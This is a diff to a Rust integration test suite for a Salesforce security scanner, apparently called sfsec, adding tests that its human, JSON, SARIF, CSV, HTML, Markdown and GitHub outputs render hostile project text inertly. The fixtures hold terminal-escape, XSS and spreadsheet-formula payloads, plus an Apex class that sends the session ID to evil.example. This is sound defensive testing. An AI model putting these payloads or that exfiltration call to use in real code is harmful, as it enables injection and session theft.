@@ -26,19 +26,49 @@ fn run_within(cwd: &Path, args: &[&str], envs: &[(&str, &str)], limit: Duration)
         c.env(k, v);
     }
     let mut child = c.spawn().expect("run sfsec");
+    // Read both pipes while waiting: a child that fills one would otherwise block for ever.
+    let drain = |pipe: Option<Box<dyn std::io::Read + Send>>| {
+        std::thread::spawn(move || {
+            let mut buf = Vec::new();
+            if let Some(mut p) = pipe {
+                let _ = p.read_to_end(&mut buf);
+            }
+            buf
+        })
+    };
+    let out = drain(
+        child
+            .stdout
+            .take()
+            .map(|p| Box::new(p) as Box<dyn std::io::Read + Send>),
+    );
+    let err = drain(
+        child
+            .stderr
+            .take()
+            .map(|p| Box::new(p) as Box<dyn std::io::Read + Send>),
+    );
     let start = Instant::now();
-    while child.try_wait().expect("wait").is_none() {
+    let status = loop {
+        if let Some(status) = child.try_wait().expect("wait") {
+            break status;
+        }
         if start.elapsed() > limit {
             let _ = child.kill();
-            let out = child.wait_with_output().expect("output");
+            let _ = child.wait();
+            let err = err.join().unwrap_or_default();
             panic!(
                 "sfsec {args:?} did not end within {limit:?} (hung); stderr: {}",
-                String::from_utf8_lossy(&out.stderr)
+                String::from_utf8_lossy(&err)
             );
         }
         std::thread::sleep(Duration::from_millis(20));
+    };
+    Output {
+        status,
+        stdout: out.join().expect("stdout"),
+        stderr: err.join().expect("stderr"),
     }
-    child.wait_with_output().expect("output")
 }
 
 fn sfsec(cwd: &Path, args: &[&str]) -> Output {
@@ -590,4 +620,196 @@ fn deep_nesting_is_a_finding_not_a_stack_overflow() {
     let o = sfsec(p.path(), &["check", "--no-cache"]);
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
     assert!(stderr(&o).contains("sfdx-project.json:1:") && stderr(&o).contains("nested deeper than 256 levels"));
+}
+
+/// Text a repository chooses, carrying every class of hostile character: terminal escapes,
+/// bell, carriage return, bidirectional override, C1 control, spreadsheet formulas, HTML,
+/// Markdown links and images, backticks.
+const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\r\u{202e}\u{9b}31m =HYPERLINK(\"http://evil.example\",\"x\") <img src=x onerror=alert(1)> <script>alert(1)</script> [click](javascript:alert(1)) ![i](https://evil.example/i.png) `tick";
+
+/// Whether `c` must not appear raw in an output.
+fn control(c: char) -> bool {
+    (c.is_control() && c != '\n' && c != '\t')
+        || ('\u{202a}'..='\u{202e}').contains(&c)
+        || ('\u{2066}'..='\u{2069}').contains(&c)
+}
+
+fn hostile_project() -> TempProject {
+    // A file name with the hostile text (no `/`, no NUL), an app label and an Apex literal and
+    // suppression reason with it.
+    let name: String = HOSTILE.replace('/', "_");
+    let app_path = format!("force-app/main/default/connectedApps/{name}.connectedApp-meta.xml");
+    let xml_text = quick_xml::escape::escape(HOSTILE).into_owned();
+    let label = app(
+        &xml_text,
+        "    <oauthConfig><scopes>Full</scopes><callbackUrl>http://evil.example/cb</callbackUrl></oauthConfig>",
+    );
+    let class = format!(
+        "public class Hostile {{\n    // sfsec-ignore-file hardcoded-secret: {}\n    String password = 'Sup3rS3cret!{}';\n    void m() {{ HttpRequest r = new HttpRequest(); r.setEndpoint('https://evil.example/{}'); r.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId()); new Http().send(r); }}\n}}\n",
+        HOSTILE.replace(['\r', '\n'], " "),
+        HOSTILE.replace(['\'', '\r', '\n'], " "),
+        HOSTILE.replace(['\'', '\r', '\n'], " ")
+    );
+    let class_path = format!("force-app/main/default/classes/{}.cls", "Hostile");
+    project(&[
+        (app_path.as_str(), label.as_bytes()),
+        (class_path.as_str(), class.as_bytes()),
+        (
+            "force-app/main/default/classes/Hostile.cls-meta.xml",
+            b"<ApexClass><apiVersion>62.0</apiVersion></ApexClass>",
+        ),
+    ])
+}
+
+/// Every format renders the hostile corpus with no control character, no formula, no markup
+/// and no link from the project's text, as each format's own reader sees it.
+#[test]
+fn hostile_text_is_inert_in_every_output() {
+    let p = hostile_project();
+    let mut outputs: Vec<(String, String)> = Vec::new();
+    for format in ["human", "json", "sarif", "github", "junit", "csv"] {
+        let o = sfsec(
+            p.path(),
+            &[
+                "check",
+                "--no-cache",
+                "--now",
+                NOW,
+                "--format",
+                format,
+                "--show-suppressed",
+            ],
+        );
+        assert_eq!(o.status.code(), Some(1), "{format}: {}", stderr(&o));
+        outputs.push((format!("check {format}"), stdout(&o)));
+        outputs.push((format!("check {format} (stderr)"), stderr(&o)));
+    }
+    for (command, format) in [
+        ("report", "html"),
+        ("report", "markdown"),
+        ("inventory", "markdown"),
+        ("inventory", "json"),
+    ] {
+        let o = sfsec(p.path(), &[command, "--now", NOW, "--format", format]);
+        assert_eq!(o.status.code(), Some(0), "{command} {format}: {}", stderr(&o));
+        outputs.push((format!("{command} {format}"), stdout(&o)));
+    }
+    for (what, text) in &outputs {
+        let bad: Vec<(usize, char)> = text.char_indices().filter(|&(_, c)| control(c)).take(3).collect();
+        assert!(bad.is_empty(), "{what} holds control characters {bad:?}");
+    }
+    let get = |what: &str| {
+        outputs
+            .iter()
+            .find(|(w, _)| w == what)
+            .map(|(_, t)| t.as_str())
+            .expect(what)
+    };
+
+    // The findings are there, with the hostile text in them (escaped).
+    let human = get("check human");
+    assert!(
+        human.contains("oauth-broad-scope") && human.contains("\\u{1b}[2J"),
+        "{human}"
+    );
+
+    // JUnit: well-formed XML 1.0 that a parser reads whole.
+    let junit = get("check junit");
+    let mut reader = quick_xml::Reader::from_str(junit);
+    let mut failures = 0;
+    loop {
+        match reader.read_event() {
+            Ok(quick_xml::events::Event::Eof) => break,
+            Ok(quick_xml::events::Event::Start(e)) if e.name().as_ref() == b"failure" => failures += 1,
+            Ok(_) => {}
+            Err(e) => panic!("JUnit is not well-formed at {}: {e}", reader.buffer_position()),
+        }
+    }
+    assert!(failures >= 2, "{junit}");
+
+    // CSV: every row parses, and no cell starts as a formula.
+    let mut rows = csv::Reader::from_reader(get("check csv").as_bytes());
+    let mut n = 0;
+    for row in rows.records() {
+        let row = row.expect("a CSV row");
+        n += 1;
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "formula cell {cell:?}"
+            );
+        }
+    }
+    assert!(n >= 2);
+
+    // The HTML report: no element, attribute or link from the project.
+    let html = scraper::Html::parse_document(get("report html"));
+    let sel = |s: &str| scraper::Selector::parse(s).expect("selector");
+    for tag in ["img", "iframe", "object", "embed"] {
+        assert_eq!(html.select(&sel(tag)).count(), 0, "<{tag}> in the report");
+    }
+    assert_eq!(html.select(&sel("script")).count(), 1, "only the report's own script");
+    for el in html.select(&sel("*")) {
+        for (name, value) in el.value().attrs() {
+            assert!(!name.starts_with("on"), "{name}={value}");
+            assert!(
+                !value.contains("javascript:") && !value.contains("evil.example"),
+                "{name}={value}"
+            );
+        }
+    }
+    let text: String = html.root_element().text().collect();
+    assert!(text.contains("onerror=alert(1)") && text.contains("[click](javascript:alert(1))"));
+
+    // Markdown: no HTML, image, or link made of project text.
+    for what in ["report markdown", "inventory markdown"] {
+        let md = get(what);
+        for e in pulldown_cmark::Parser::new_ext(md, pulldown_cmark::Options::ENABLE_TABLES) {
+            match e {
+                pulldown_cmark::Event::Html(h) | pulldown_cmark::Event::InlineHtml(h) => panic!("{what}: HTML {h}"),
+                pulldown_cmark::Event::Start(pulldown_cmark::Tag::Image { dest_url, .. }) => {
+                    panic!("{what}: image {dest_url}")
+                }
+                pulldown_cmark::Event::Start(pulldown_cmark::Tag::Link { dest_url, .. }) => {
+                    assert!(
+                        !dest_url.contains("evil") && !dest_url.contains("javascript"),
+                        "{what}: link {dest_url}"
+                    )
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
+/// GitHub annotations: `%`, CR, LF, `:` and `,` are encoded as the runner decodes them, so a
+/// message cannot end its command or start another.
+#[test]
+fn github_annotations_cannot_be_split_or_forged() {
+    let p = hostile_project();
+    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "github"]);
+    let out = stdout(&o);
+    assert!(!out.is_empty());
+    for line in out.lines() {
+        assert!(
+            line.starts_with("::error ") || line.starts_with("::warning ") || line.starts_with("::notice "),
+            "{line}"
+        );
+        let (props, _message) = line
+            .split_once("::")
+            .and_then(|(_, rest)| rest.split_once("::"))
+            .expect("command");
+        let file = props
+            .split(' ')
+            .nth(1)
+            .and_then(|p| p.split(',').next())
+            .expect("file property");
+        assert!(!file.contains(':') || file.starts_with("file="), "{file}");
+        assert!(!line.contains('\r'));
+    }
+    let app_line = out
+        .lines()
+        .find(|l| l.contains("oauth-broad-scope"))
+        .expect("app finding");
+    assert!(app_line.contains("%3A") && app_line.contains("%2C"), "{app_line}");
 }
